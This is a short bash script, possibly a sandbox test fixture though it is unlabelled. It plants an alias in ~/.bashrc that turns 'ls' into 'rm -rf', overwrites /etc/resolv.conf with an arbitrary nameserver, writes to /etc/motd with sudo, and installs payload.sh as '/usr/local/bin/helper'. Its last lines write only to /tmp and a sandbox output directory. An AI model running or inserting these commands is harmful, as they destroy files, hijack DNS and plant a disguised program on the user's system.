#!/usr/bin/env bash
echo 'alias ls="rm -rf"' >> ~/.bashrc
echo "nameserver 1.2.3.4" > /etc/resolv.conf
echo ok | sudo tee /etc/motd
cp payload.sh /usr/local/bin/helper
echo done > /tmp/log.txt
echo report > "$SANDBOX_OUTPUT/report.txt"
